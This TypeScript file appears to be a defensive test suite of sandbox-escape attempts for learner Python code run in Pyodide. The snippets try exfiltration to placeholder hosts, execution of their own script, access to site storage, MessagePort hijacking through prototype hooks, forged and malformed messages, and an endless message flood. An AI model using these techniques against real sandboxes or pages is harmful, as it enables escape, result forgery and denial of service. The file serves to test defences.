// What learner code may try, as Python. SAME and OTHER stand for addresses at the site's own and another origin; both end
// in TOKEN, which then shows in the servers' logs. The last expression says "reached…" or "blocked…"; whatever it says, a
// request that arrives and a message that the page hears count as reached.
export interface Attack {
  name: string;
  code: string;
  /** Whether it must succeed in a worker without a sandbox: the proof that the attack is one. */
  control?: true;
  /** It kills Python, so that no answer comes; Stop is left. */
  deadly?: true;
}

export const PRELUDE = `
import asyncio, js, pyodide_js
from js import Object
from pyodide.code import run_js
from pyodide.ffi import create_proxy, to_js

def obj(**options):
    return to_js(options, dict_converter=Object.fromEntries)

async def attempt(make, seconds=2):
    try:
        value = make()
        if hasattr(value, "then") or asyncio.iscoroutine(value):
            value = await asyncio.wait_for(value, seconds)
        return f"reached: {str(value)[:60]}"
    except BaseException as error:
        return f"blocked: {type(error).__name__} {str(error)[:80]}"

async def first(make, good, bad, seconds=2):
    "What the first of the target's events means."
    try:
        target = make()
    except BaseException as error:
        return f"blocked: {type(error).__name__} {str(error)[:80]}"
    future = asyncio.get_running_loop().create_future()
    for names, word in ((good, "reached"), (bad, "blocked")):
        for name in names.split():
            hear = lambda event, said=f"{word}: {name}": future.done() or future.set_result(said)
            target.addEventListener(name, create_proxy(hear))
    try:
        return await asyncio.wait_for(future, seconds)
    except asyncio.TimeoutError:
        return "blocked: nothing happened"
`;

const POST = 'obj(method="POST", body="x", mode="no-cors", keepalive=True)';
const BLOB = 'js.URL.createObjectURL(js.Blob.new(to_js(["self.ran = 1"]), obj(type="text/javascript")))';

export const ATTACKS: Attack[] = [
  // The network
  { name: "fetch, same origin", code: 'await attempt(lambda: js.fetch("SAME"))', control: true },
  { name: "fetch, other origin", code: 'await attempt(lambda: js.fetch("OTHER", obj(mode="no-cors")))', control: true },
  { name: "fetch that outlives the page", code: `await attempt(lambda: js.fetch("OTHER", ${POST}))`, control: true },
  {
    name: "XMLHttpRequest",
    code: `
def go():
    request = js.XMLHttpRequest.new()
    request.open("GET", "SAME", False)
    request.send()
    return request.status
await attempt(go)`,
    control: true,
  },
  {
    name: "WebSocket",
    code: 'await first(lambda: js.WebSocket.new("OTHER".replace("http", "ws")), "open", "error close")',
    control: true,
  },
  {
    name: "EventSource",
    code: 'await first(lambda: js.EventSource.new("OTHER"), "open message", "error")',
    control: true,
  },
  {
    name: "WebTransport",
    code: 'await attempt(lambda: js.WebTransport.new("OTHER".replace("http:", "https:")).ready)',
  },
  { name: "sendBeacon", code: 'await attempt(lambda: js.navigator.sendBeacon("OTHER"))' },
  { name: "RTCPeerConnection", code: "await attempt(lambda: js.RTCPeerConnection.new())" },
  { name: "a font", code: 'await attempt(lambda: js.FontFace.new("x", "url(OTHER)").load())', control: true },
  { name: "pyfetch", code: 'from pyodide.http import pyfetch\nawait attempt(lambda: pyfetch("SAME"))', control: true },
  {
    name: "open_url",
    code: 'from pyodide.http import open_url\nawait attempt(lambda: open_url("SAME"))',
    control: true,
  },
  {
    name: "loadPackage",
    code: 'await attempt(lambda: pyodide_js.loadPackage("SAME/x-1-py3-none-any.whl"))\n"blocked"',
    control: true,
  },
  {
    name: "requests",
    code: 'import requests\nawait attempt(lambda: requests.get("OTHER", timeout=1).status_code)',
    control: true,
  },
  { name: "urllib", code: 'import urllib.request\nawait attempt(lambda: urllib.request.urlopen("OTHER", timeout=1))' },
  {
    name: "a socket",
    code: `
def go():
    import socket
    connection = socket.create_connection(("127.0.0.1", int("OTHER".split(":")[2].split("/")[0])), 1)
    connection.sendall(b"GET /TOKEN HTTP/1.0\\r\\n\\r\\n")
    return connection.recv(9)
await attempt(go)`,
  },
  // Script of one's own
  { name: "eval", code: `await attempt(lambda: js.eval("fetch('SAME'); 1"))`, control: true },
  { name: "new Function", code: `await attempt(lambda: js.Function.new("fetch('SAME'); return 1")())`, control: true },
  {
    name: "a function's constructor",
    code: `await attempt(lambda: js.setTimeout.constructor("fetch('SAME')")())`,
    control: true,
  },
  { name: "run_js", code: `await attempt(lambda: run_js("fetch('SAME'); 1"))`, control: true },
  {
    name: "setTimeout with a text",
    code: `await attempt(lambda: js.setTimeout("fetch('SAME')", 0))\nawait asyncio.sleep(0.3)\n"blocked"`,
  },
  { name: "import(), by eval", code: `await attempt(lambda: js.eval("import('SAME')"))`, control: true },
  {
    name: "importScripts of an address",
    code: 'await attempt(lambda: js.WorkerGlobalScope.prototype.importScripts("SAME"))',
  },
  {
    name: "importScripts, the real one",
    code: `js.Reflect.deleteProperty(js.globalThis, "importScripts")\nawait attempt(lambda: js.importScripts("SAME"))`,
    control: true,
  },
  {
    name: "importScripts of a blob",
    code: `js.Reflect.deleteProperty(js.globalThis, "importScripts")\nawait attempt(lambda: js.importScripts(${BLOB}))`,
    control: true,
  },
  { name: "a worker from an address", code: 'await first(lambda: js.Worker.new("SAME"), "message", "error")' },
  { name: "a worker from a blob", code: `await first(lambda: js.Worker.new(${BLOB}), "message", "error")` },
  { name: "a shared worker", code: 'await attempt(lambda: js.SharedWorker.new("SAME"))' },
  { name: "a service worker", code: 'await attempt(lambda: js.navigator.serviceWorker.register("SAME"))' },
  {
    name: "emscripten_run_script through ctypes",
    code: `import ctypes\nctypes.CDLL(None).emscripten_run_script(b"fetch('SAME')")\n"blocked"`,
    deadly: true,
  },
  // What the site keeps
  { name: "IndexedDB", code: 'await first(lambda: js.indexedDB.open("progress"), "success", "error")', control: true },
  { name: "Cache Storage", code: 'await attempt(lambda: js.caches.open("progress"))', control: true },
  {
    name: "the private file system",
    code: "await attempt(lambda: js.navigator.storage.getDirectory())",
    control: true,
  },
  {
    name: "IndexedDB by Emscripten's file system",
    code: `
async def go():
    done = asyncio.get_running_loop().create_future()
    pyodide_js.FS.mkdirTree("/idb")
    pyodide_js.FS.mount(pyodide_js.FS.filesystems.IDBFS, obj(), "/idb")
    hear = lambda error: done.set_exception(RuntimeError(str(error))) if error else done.set_result("synced")
    pyodide_js.FS.syncfs(True, create_proxy(hear))
    return await done
await attempt(go)`,
    control: true,
  },
  {
    name: "localStorage, cookies",
    code: `
there = [name for name in ("localStorage", "sessionStorage", "document", "cookieStore") if hasattr(js, name)]
found = [name for name in there if name != "cookieStore"]
if "cookieStore" in there:
    got = await attempt(lambda: js.cookieStore.get("progress"))
    found += [got] if got.startswith("reached") and "None" not in got else []
f"reached: {found}" if found else "blocked: none is there"`,
  },
  { name: "locks", code: "await attempt(lambda: js.navigator.locks.query())" },
  {
    name: "BroadcastChannel",
    code: 'await attempt(lambda: js.BroadcastChannel.new("champion").postMessage("TOKEN"))\nawait asyncio.sleep(0.3)\n"blocked"',
    control: true,
  },
  // The page
  {
    name: "parent, top, opener, open",
    code: `
found = [name for name in ("parent", "top", "opener", "window", "frames", "open", "frameElement") if hasattr(js, name)]
f"reached: {found}" if found else "blocked: none is there"`,
  },
  {
    name: "navigation",
    code: `
def go():
    js.location.href = "SAME"
    js.location.assign("SAME")
await attempt(go)`,
  },
  {
    name: "messages to the iframe, as if to the page",
    code: `
for said in (obj(id=1, value="TOKEN"), "TOKEN"):
    js.postMessage(said)
    await attempt(lambda: js.postMessage(said, obj(targetOrigin="*")))
    await attempt(lambda: js.dispatchEvent(js.MessageEvent.new("message", obj(data=said))))
await asyncio.sleep(0.3)
"blocked"`,
  },
  {
    name: "pollution of prototypes",
    code: 'js.Object.prototype.polluted = js.Array.prototype.polluted = "TOKEN"\n"blocked"',
  },
];

/** Takes hold of every MessagePort that passes the runtime's hands after this code ran; LOOT then speaks through them. */
export const STEAL = `
ports = []
real = lambda owner, name, part: js.Reflect.get(js.Object.getOwnPropertyDescriptor(owner, name), part)
apply, to_string = js.Reflect.get(js.Reflect, "apply"), real(js.Object.prototype, "toString", "value")
current, post = real(js.Event.prototype, "currentTarget", "get"), real(js.MessagePort.prototype, "postMessage", "value")
kept = []

def look(*things):
    for thing in things:
        if apply(to_string, thing, to_js([])) == "[object MessagePort]" and not any(thing == port for port in ports):
            ports.append(thing)

def hook(owner, name, part):
    original = real(owner, name, part)
    def hooked(this, *given):
        look(this, *given)
        if part == "get":
            look(apply(current, this, to_js([])))
        return apply(original, this, to_js(list(given)))
    proxy = create_proxy(hooked)
    kept.extend((original, proxy))
    change = obj(value=proxy.captureThis(), writable=True, configurable=True) if part == "value" else obj(get=proxy.captureThis(), configurable=True)
    js.Object.defineProperty(owner, name, change)

hook(js.MessagePort.prototype, "postMessage", "value")
for owner, name in ((js.MessageEvent, "data"), (js.MessageEvent, "ports"), (js.Event, "target")):
    hook(owner.prototype, name, "get")
`;

/** As answer to the run ID: a forged one through every stolen port. */
export const LOOT = `
for port in ports:
    apply(post, port, to_js([obj(id=ID, value="forged")]))
"honest"`;

/** As the fourth run: what a page must bear. */
export const MALFORMED = `
own_proto = js.JSON.parse('{"__proto__": {"polluted": 1}, "id": 4, "stream": "__proto__", "text": "x"}')
odd = (1, "x", None, own_proto, obj(id=4, stream="stdout", text=1), obj(id=4, need=to_js(["../secret", "__proto__", 1])), obj(id=99, value="another run"), obj(id=4, stream="stdin", text="x"))
for port in ports:
    for message in odd:
        apply(post, port, to_js([message]))
"survived"`;

/** As the fifth run. */
export const FLOOD = `
while True:
    for port in ports:
        apply(post, port, to_js([obj(id=5, stream="stdout", text="")]))`;

/** Whatever reflection reaches from the globals, Pyodide and the garbage collector's JsProxies: is there a port of the page? */
export const WALK = `
import gc
from collections import deque
from pyodide.ffi import JsProxy
seen, found, count = js.Set.new(), 0, 0
queue = deque([js.globalThis, pyodide_js, pyodide_js._api, pyodide_js._module, *(one for one in gc.get_objects() if isinstance(one, JsProxy))])
while queue and count < 6000:
    thing = queue.popleft()
    if not isinstance(thing, JsProxy) or seen.has(thing):
        continue
    seen.add(thing)
    count += 1
    try:
        tag = js.Object.prototype.toString.call(thing)
        if tag == "[object MessagePort]":
            found += js.Object.getPrototypeOf(thing) == js.MessagePort.prototype
            continue
        if "Array]" in tag or tag == "[object ArrayBuffer]":
            continue
        for name in list(js.Reflect.ownKeys(thing))[:800]:
            descriptor = js.Object.getOwnPropertyDescriptor(thing, name)
            queue.extend(value for part in ("value", "get", "set") if isinstance(value := getattr(descriptor, part, None), JsProxy))
        if parent := js.Object.getPrototypeOf(thing):
            queue.append(parent)
    except Exception:
        pass
(found, count > 1000)`;
